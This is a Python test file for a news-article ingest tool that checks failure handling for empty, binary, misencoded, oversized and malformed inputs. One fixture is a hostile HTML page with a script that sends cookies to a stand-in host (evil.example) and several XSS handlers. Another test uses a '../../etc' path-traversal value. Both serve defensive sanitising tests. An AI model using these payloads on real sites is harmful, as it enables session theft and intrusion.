"""Bad inputs: each gives one InputFailure (or a warning on a still-read Article) and the batch goes on."""

from __future__ import annotations

import codecs
import json
import os
import socket
import time
from datetime import date

import pytest
from ingest_samples import DETIK_STYLE, KOMPAS_STYLE, UNDATED

from warta.ingest import read_inputs
from warta.records import Article, InputFailure

MB = 1024 * 1024


def read_one(path_or_url) -> Article | InputFailure:
    results = list(read_inputs([str(path_or_url)]))
    assert len(results) == 1, results
    return results[0]


def failure_reason(path_or_url, **kwargs) -> str:
    results = list(read_inputs([str(path_or_url)], **kwargs))
    assert len(results) == 1, results
    assert isinstance(results[0], InputFailure), results[0]
    assert "\n" not in results[0].reason
    return results[0].reason


def test_empty_file(write):
    assert failure_reason(write("empty.txt", b"")) == "empty file"


def test_whitespace_only_file(write):
    assert failure_reason(write("blank.txt", " \n\n\t \u00a0\n")) == "no text (only whitespace)"


def test_file_of_only_boilerplate(write):
    path = write("ads.txt", "ADVERTISEMENT\n\nBaca juga: Judul Lain\nEditor: Seseorang\n")
    assert failure_reason(path) == "no article text left after removing boilerplate"


def test_binary_file_with_nul_bytes(write):
    png_like = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4
    assert failure_reason(write("photo.txt", png_like)) == "binary file (contains NUL bytes)"


def test_binary_file_of_control_bytes(write):
    data = bytes([1, 2, 3, 4, 5, 6, 0x7F, 0x10]) * 200 + b"sedikit teks"
    assert failure_reason(write("blob.txt", data)).startswith("binary file (")


def test_cp1252_file_is_read_with_a_warning_naming_the_first_bad_byte(write):
    text = KOMPAS_STYLE.replace("Kedua prajurit", "Kedua prajurit \u201cterluka ringan\u201d")
    data = text.encode("cp1252")
    first_bad = data.index(b"\x93")
    article = read_one(write("old.txt", data))
    assert isinstance(article, Article)
    assert article.warnings == [f"not UTF-8 at byte {first_bad}; decoded as cp1252"]
    assert "\u201cterluka ringan\u201d" in article.text
    assert article.published == date(2024, 2, 12)


def test_utf8_bom_is_removed(write):
    article = read_one(write("bom.txt", codecs.BOM_UTF8 + KOMPAS_STYLE.encode("utf-8")))
    assert isinstance(article, Article) and article.warnings == []
    assert article.text.startswith("JAKARTA, KOMPAS.com")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_utf16_and_utf32_files_with_bom_are_decoded(write, encoding):
    data = KOMPAS_STYLE.encode(encoding)
    if encoding == "utf-16-be":
        data = codecs.BOM_UTF16_BE + data
    article = read_one(write(f"{encoding}.txt", data))
    assert isinstance(article, Article), article
    assert article.warnings == []
    assert article.text.startswith("JAKARTA, KOMPAS.com") and article.published == date(2024, 2, 12)


def test_utf16_without_bom_is_decoded_with_a_warning(write):
    article = read_one(write("nobom.txt", KOMPAS_STYLE.encode("utf-16-le")))
    assert isinstance(article, Article), article
    assert article.warnings == ["no byte-order mark; decoded as UTF-16-LE"]
    assert article.outlet == "Kompas"


def test_bad_html_charset_falls_back_with_warning(write):
    html = f"<html><head><meta charset='utf-8'></head><body><article><p>{KOMPAS_STYLE}</p></article></body></html>"
    data = html.replace("Kedua prajurit", "Kedua prajurit \u2013 keduanya").encode("cp1252")
    article = read_one(write("page.html", data))
    assert isinstance(article, Article), article
    assert len(article.warnings) == 1 and article.warnings[0].endswith("; decoded as cp1252")


def test_declared_latin1_html_is_decoded_without_warning(write):
    html = (
        "<html><head><meta http-equiv='Content-Type' content='text/html; charset=iso-8859-1'></head><body>"
        f"<article><p>{KOMPAS_STYLE.replace('Timika', 'Timika (±40 km)')}</p></article></body></html>"
    )
    article = read_one(write("latin.html", html.encode("latin-1")))
    assert isinstance(article, Article), article
    assert article.warnings == [] and "±40 km" in article.text


def test_too_large_file_is_refused_quickly_without_reading_it(write, tmp_path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as handle:  # sparse: 50 MB of size, no 50 MB of writing
        handle.truncate(50 * MB)
    started = time.perf_counter()
    reason = failure_reason(path)
    assert time.perf_counter() - started < 0.5
    assert reason == "too large (50.0 MB > 10 MB limit)"


def test_size_limit_is_configurable(write):
    path = write("a.txt", KOMPAS_STYLE)
    assert failure_reason(path, max_bytes=100) == f"too large ({path.stat().st_size} bytes > 100 bytes limit)"
    assert failure_reason(path, max_bytes=300).endswith(" > 300 bytes limit)")


def test_missing_path(tmp_path):
    assert failure_reason(tmp_path / "nowhere.txt") == "no such file or directory"


@pytest.mark.skipif(os.geteuid() == 0, reason="root can read any file")
def test_unreadable_file(write):
    path = write("secret.txt", KOMPAS_STYLE)
    path.chmod(0)
    assert failure_reason(path).startswith("cannot read: Permission denied")


def test_unreadable_file_even_as_root(write, monkeypatch):
    path = write("locked.txt", KOMPAS_STYLE)
    real_open = type(path).open

    def refuse(self, *args, **kwargs):
        if self == path:
            raise PermissionError(13, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(type(path), "open", refuse)
    assert failure_reason(path) == "cannot read: Permission denied"


def test_unsupported_extension(write):
    reason = failure_reason(write("report.pdf", b"%PDF-1.4"))
    assert reason == "unsupported file type .pdf (expected .txt, .html, .htm or .jsonl)"


def test_directory_without_articles(tmp_path):
    (tmp_path / "empty").mkdir()
    assert failure_reason(tmp_path / "empty") == "directory has no .txt, .html, .htm or .jsonl files"


def test_bad_jsonl_lines_fail_alone_and_the_rest_of_the_file_goes_on(write):
    lines = [
        json.dumps({"id": "a", "text": KOMPAS_STYLE}),
        "{not json",
        json.dumps({"id": "no-text", "title": "Tanpa isi"}),
        json.dumps(["a", "list"]),
        json.dumps({"text": 42}),
        "",
        json.dumps({"text": DETIK_STYLE}),
    ]
    path = write("mixed.jsonl", "\n".join(lines) + "\n")
    results = list(read_inputs([str(path)]))
    summary = [(result.source, getattr(result, "reason", "ok")) for result in results]
    assert summary == [
        (f"{path}#a", "ok"),
        (f"{path}#2", "not JSON (Expecting property name enclosed in double quotes at column 2)"),
        (f"{path}#no-text", "no 'text' field"),
        (f"{path}#4", "not a JSON object"),
        (f"{path}#5", "'text' is a int, not a string"),
        (f"{path}#7", "ok"),
    ]


def test_jsonl_line_over_the_limit_fails_alone(write):
    long_line = json.dumps({"text": UNDATED * 100})
    path = write("long.jsonl", "\n".join([long_line, json.dumps({"text": UNDATED})]) + "\n")
    results = list(read_inputs([str(path)], max_bytes=5_000))
    assert isinstance(results[0], InputFailure) and results[0].source == f"{path}#1"
    assert results[0].reason.startswith("line too large")
    assert isinstance(results[1], Article) and results[1].source == f"{path}#2"


def test_jsonl_unparseable_published_is_a_warning_and_the_text_is_read(write):
    path = write("p.jsonl", json.dumps({"published": "kemarin sore", "text": KOMPAS_STYLE}))
    article = read_one(path)
    assert isinstance(article, Article)
    assert article.published == date(2024, 2, 12)
    assert article.warnings == ["'published' value 'kemarin sore' is not a date; read from the text instead"]


def test_jsonl_bad_language_code_is_not_used_as_a_pack_path(write):
    path = write("l.jsonl", json.dumps({"lang": "../../etc", "text": KOMPAS_STYLE}))
    article = read_one(path)
    assert isinstance(article, Article)
    assert article.lang == "id"
    assert article.warnings == ["language code '../../etc' is not an ISO 639 code; detected instead"]


HOSTILE_PAGE = """<html><head><title>Serangan di Pos Jaga</title>
<script>window.location='http://evil.example/?c='+document.cookie</script>
<style>body { background: url("javascript:alert(0)") }</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(5)">
</head><body onload="steal()">
<article>
<h1>Serangan di Pos Jaga</h1>
<p onclick="alert(1)">Kelompok bersenjata menyerang pos jaga di pinggiran kota pada malam hari dan melukai
tiga petugas keamanan yang sedang berjaga, kata kepala kepolisian setempat kepada wartawan.</p>
<img src="x.png" onerror="alert(2)">
<script type="text/javascript">document.write("<p>teks sisipan skrip</p>")</script>
<p>Petugas menemukan selongsong peluru di sekitar lokasi <a href="javascript:alert(3)">kejadian</a> dan
masih memburu para pelaku yang melarikan diri ke arah hutan.</p>
<iframe src="javascript:alert(4)"></iframe>
<svg onload="alert(6)"><script>alert(7)</script></svg>
<p>Warga diminta tetap tenang. Contoh teks yang memuat &lt;script&gt;alert(8)&lt;/script&gt; dan
&lt;img src=x onerror=alert(9)&gt; sebagai tulisan biasa.</p>
<noscript><p>Aktifkan JavaScript</p></noscript>
</article></body></html>"""


def test_hostile_html_leaves_no_script_handler_or_javascript_link_in_the_text(write):
    article = read_one(write("hostile.html", HOSTILE_PAGE))
    assert isinstance(article, Article), article
    lowered = article.text.lower()
    for residue in ("<script", "</script", "alert(", "onerror", "onload", "onclick", "javascript:", "document.",
                    "<img", "<iframe", "<svg", "steal()", "teks sisipan skrip"):
        assert residue not in lowered, residue
    assert "menyerang pos jaga" in article.text
    assert "memburu para pelaku" in article.text


def test_html_page_without_article_text(write):
    page = "<html><head><script>var x = 1;</script></head><body><div></div></body></html>"
    assert failure_reason(write("empty.html", page)) == "no article text found in the HTML page"


def test_html_page_of_only_navigation(write):
    page = "<html><head><script>var x = 1;</script></head><body><nav>Beranda</nav></body></html>"
    assert failure_reason(write("nav.html", page)) == "no article text left after removing boilerplate"


def test_url_http_error(http_root):
    base, _ = http_root
    assert failure_reason(f"{base}/hilang.html") == "fetch failed: HTTP 404 File not found"


def test_url_connection_refused():
    with socket.socket() as probe:  # a port that was free a moment ago: nothing listens there
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    reason = failure_reason(f"http://127.0.0.1:{port}/berita.html", timeout=5)
    assert reason == "fetch failed: Connection refused"


def test_url_page_over_the_limit(http_root):
    base, root = http_root
    (root / "big.html").write_text("<p>" + "kata " * 5000 + "</p>", encoding="utf-8")
    assert failure_reason(f"{base}/big.html", max_bytes=1000).startswith("too large (")


def test_batch_goes_on_after_every_kind_of_failure(write, tmp_path):
    inputs = [
        write("empty.txt", b""),
        write("bin.txt", b"\x00\x01\x02" * 10),
        tmp_path / "missing.txt",
        write("x.docx", b"PK"),
        write("good.txt", KOMPAS_STYLE),
    ]
    results = list(read_inputs([str(item) for item in inputs]))
    assert [type(result).__name__ for result in results] == ["InputFailure"] * 4 + ["Article"]


def test_jsonl_with_utf8_bom_reads_its_first_line(write):
    path = write("bom.jsonl", codecs.BOM_UTF8 + json.dumps({"id": "first", "text": KOMPAS_STYLE}).encode("utf-8"))
    article = read_one(path)
    assert isinstance(article, Article) and article.source == f"{path}#first"


def test_jsonl_in_utf16_is_refused_with_a_clear_reason(write):
    path = write("wide.jsonl", json.dumps({"text": KOMPAS_STYLE}).encode("utf-16"))
    assert failure_reason(path) == "JSONL in UTF-16 is not supported; save it as UTF-8"


def test_jsonl_line_in_cp1252_is_read_with_a_warning(write):
    text = KOMPAS_STYLE.replace("Kedua prajurit", "Kedua prajurit \u201cselesai\u201d")
    line = json.dumps({"text": text}, ensure_ascii=False).encode("cp1252")
    article = read_one(write("old.jsonl", line))
    assert isinstance(article, Article)
    assert article.warnings[0].startswith("not UTF-8 at byte ") and "decoded as cp1252" in article.warnings[0]
    assert "\u201cselesai\u201d" in article.text
